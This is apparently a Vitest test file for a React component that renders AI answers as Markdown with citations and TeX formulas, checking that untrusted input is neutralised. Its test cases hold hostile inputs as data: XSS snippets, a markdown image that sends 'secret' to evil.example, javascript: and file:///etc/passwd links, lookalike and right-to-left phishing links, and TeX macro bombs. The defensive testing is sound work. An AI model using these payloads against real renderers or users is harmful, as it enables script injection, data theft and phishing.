import { within } from '@testing-library/dom';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { AnswerBody } from './answer-body';
import { drawFormula } from './draw-formula';

function drawn(text: string): HTMLElement {
  const place = document.createElement('div');
  place.innerHTML = renderToStaticMarkup(<AnswerBody text={text} draw={(n) => <sup data-citation={n}>{n}</sup>} />);
  return place;
}

test('draws headings, lists, tables and code, with raised numbers at citations', () => {
  const place = drawn(
    '## Plan\n\nThe launch is in May.[^1] **Both agree.[^2]**\n\n1. One\n2. Two[^3]\n\n| Item | Price |\n| --- | --- |\n| Chair | 40[^4] |\n\n```js\nconst a = 1;\n```',
  );
  expect(place.querySelector('h4')?.textContent).toBe('Plan');
  expect([...place.querySelectorAll('[data-citation]')].map((mark) => mark.textContent)).toEqual(['1', '2', '3', '4']);
  expect([...place.querySelectorAll('ol')].map((list) => list.start)).toEqual([1, 2]);
  expect(within(place).getAllByRole('columnheader')).toHaveLength(2);
  expect(place.querySelector('pre')?.textContent).toContain('const a = 1;');
  expect(place.textContent).not.toContain('[^');
});

test('marks a sentence without a supporting source by a text', () => {
  expect(drawn('It rains in June.[^?] It is wet.').querySelector('.answer-unsupported')).not.toBeNull();
});

test('citation markers in code are drawn as code', () => {
  expect(drawn('Use `a[^1]` here.').querySelector('code')?.textContent).toBe('a[^1]');
});

/** Elements that load a resource, run code or send a form. */
const LOADING =
  'img, picture, video, audio, source, iframe, frame, object, embed, link, script, style, form, svg, base, meta';

test.each([
  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a script in a table', '| a |\n| --- |\n| <iframe src="https://evil.example"></iframe> |'],
  ['an image of another server', '![](https://evil.example/?q=secret) ![x](//evil.example/p.png)'],
  ['an image of this workspace', '![alt](image:0swq1a2b3c)'],
  ['a reference-style image', '![x][1]\n\n[1]: https://evil.example/p.png'],
  ['HTML in code', '```html\n<script src="https://evil.example"></script>\n```'],
])('%s is neither loaded nor run', (_, text) => {
  const place = drawn(text);
  expect(place.querySelector(LOADING)).toBeNull();
  for (const element of place.querySelectorAll('*'))
    for (const { name } of element.attributes) expect(name).not.toMatch(/^(on|src|srcset|style|background|action)/);
});

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  '//evil.example',
  '/settings',
])('a link to %s is drawn as text', (href) => {
  expect(drawn(`[press](${href})`).querySelector('a')).toBeNull();
});

test.each([
  ['[https://bank.example](https://evil.example/login)', 'evil.example'],
  ['[bank.example](https://bank.example@evil.example/)', 'evil.example'],
  ['[bank](https://xn--bnk-5cd.example/)', 'xn--bnk-5cd.example'],
  ['[bank](https://bаnk.example/)', 'xn--'],
  ['[write](mailto:someone@evil.example)', 'someone@evil.example'],
])('%s shows the host that it leads to', (text, host) => {
  const place = drawn(text);
  const link = place.querySelector('a')!;
  expect(place.querySelector('bdi')?.textContent).toContain(host);
  expect(link.rel).toContain('noopener');
  expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
});

test('the host of a link is shown from left to right, also after a right-to-left override in its text', () => {
  expect(drawn('[a\u202emoc.knab](https://evil.example)').querySelector('bdi')?.dir).toBe('ltr');
});

test('an incomplete marker or table at the end of a streamed text is drawn', () => {
  for (const text of ['Text [^', 'Text [^1', '| a | b |\n| --', '```js\nconst', '**bold'])
    expect(drawn(text).textContent).not.toBe('');
});

test('a formula is shown as its TeX source until it is drawn', () => {
  const place = drawn('So $a_1 + b_1$.\n\n$$\nx^2\n$$');
  expect([...place.querySelectorAll('.answer-formula')].map((formula) => formula.textContent)).toEqual([
    '$a_1 + b_1$',
    '$$\nx^2\n$$',
  ]);
  expect(place.querySelector('em')).toBeNull();
});

test('a formula is drawn with its MathML', () => {
  const host = document.createElement('span');
  expect(drawFormula(host, '\\frac{a}{b}', true)).toBe(true);
  expect(host.querySelector('math annotation')?.textContent).toBe('\\frac{a}{b}');
});

test.each([
  ['endless macros', '\\def\\a{\\a\\a}\\a'],
  [
    'macros that double',
    `${[...'abcdefghijklmnop'].map((m, i, all) => `\\def\\x${m}{\\x${all[i + 1] ?? 'z'}\\x${all[i + 1] ?? 'z'}}`).join('')}\\xa`,
  ],
  ['deep nesting', `${'{'.repeat(900)}${'}'.repeat(899)}`],
  ['invalid TeX', '\\frac{a'],
])('draws nothing for %s', (_, tex) => {
  const host = document.createElement('span');
  expect(drawFormula(host, tex, false)).toBe(false);
  expect(host.childNodes).toHaveLength(0);
});

test.each([
  '\\href{javascript:alert(1)}{x}',
  '\\url{https://evil.example}',
  '\\includegraphics{https://evil.example/p.png}',
  '\\htmlStyle{background:url(https://evil.example)}{x}',
  '\\htmlId{root}{x}',
])('%s has neither a link nor a resource', (tex) => {
  const host = document.createElement('span');
  drawFormula(host, tex, false);
  expect(host.querySelector('a, img, [href], [src], [id]')).toBeNull();
  expect([...host.querySelectorAll('[style]')].filter((part) => part.getAttribute('style')!.includes('url'))).toEqual(
    [],
  );
});

test('limits the sizes in a formula', () => {
  const host = document.createElement('span');
  expect(drawFormula(host, '\\rule{9999em}{9999em}', false)).toBe(true);
  const sizes = [...host.querySelectorAll<HTMLElement>('[style]')].flatMap(({ style }) =>
    [style.borderRightWidth, style.borderTopWidth, style.height].map((size) => Number.parseFloat(size) || 0),
  );
  expect(Math.max(...sizes)).toBe(20);
});
